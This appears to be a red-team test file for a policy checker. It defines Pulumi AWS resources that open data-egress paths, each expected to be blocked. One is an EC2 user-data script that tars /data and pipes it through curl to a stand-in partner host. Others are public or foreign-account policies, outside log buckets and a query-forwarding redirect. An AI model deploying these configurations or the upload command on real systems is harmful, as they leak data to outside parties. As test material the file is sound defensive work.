"""More paths out, tried after the first fixes: each must be blocked (FAIL or UNKNOWN)."""

import base64

import pulumi_aws as aws

from redteam_cases.registry import FOREIGN, HOME, allow, case


@case("block")
def launch_template_base64_user_data() -> None:
    script = "#!/bin/sh\ntar cz /data | curl -T - https://drop.partner.example/upload\n"
    aws.ec2.LaunchTemplate("workers", image_id="ami-12345678", user_data=base64.b64encode(script.encode()).decode())


@case("block")
def rest_api_policy_public() -> None:
    aws.apigateway.RestApiPolicy("api", rest_api_id="api", policy=allow("*", "execute-api:Invoke"))


@case("block")
def ses_receipt_to_bucket_outside_program() -> None:
    aws.ses.ReceiptRule(
        "inbound", rule_set_name="rs", enabled=True, s3_actions=[{"bucket_name": "partner-mail-drop", "position": 1}]
    )


@case("block")
def log_destination_policy_foreign() -> None:
    aws.cloudwatch.LogDestinationPolicy(
        "dest",
        destination_name="records",
        access_policy=allow(
            {"AWS": FOREIGN}, "logs:PutSubscriptionFilter", f"arn:aws:logs:eu-west-1:{HOME}:destination:records"
        ),
    )


@case("block")
def endpoint_service_open_to_anyone() -> None:
    aws.ec2.VpcEndpointServiceAllowedPrinciple("anyone", vpc_endpoint_service_id="vpce-svc-1", principal_arn="*")


@case("block")
def bucket_logging_to_bucket_outside_program() -> None:
    aws.s3.BucketLogging("logs", bucket="records", target_bucket="partner-access-logs", target_prefix="records/")


@case("block")
def alb_redirect_to_partner_host() -> None:
    aws.lb.Listener(
        "web",
        load_balancer_arn=f"arn:aws:elasticloadbalancing:eu-west-1:{HOME}:loadbalancer/app/w/1",
        port=80,
        default_actions=[
            {
                "type": "redirect",
                "redirect": {"host": "collect.partner.example", "status_code": "HTTP_302", "query": "#{query}"},
            }
        ],
    )


@case("block")
def lambda_env_endpoint_outside_aws() -> None:
    aws.lambda_.Function(
        "export",
        role=f"arn:aws:iam::{HOME}:role/r",
        runtime="python3.12",
        handler="i.h",
        code=None,
        image_uri=f"{HOME}.dkr.ecr.eu-west-1.amazonaws.com/app:1",
        package_type="Image",
        environment={"variables": {"EXPORT_ENDPOINT": "https://ingest.partner.example/v1"}},
    )
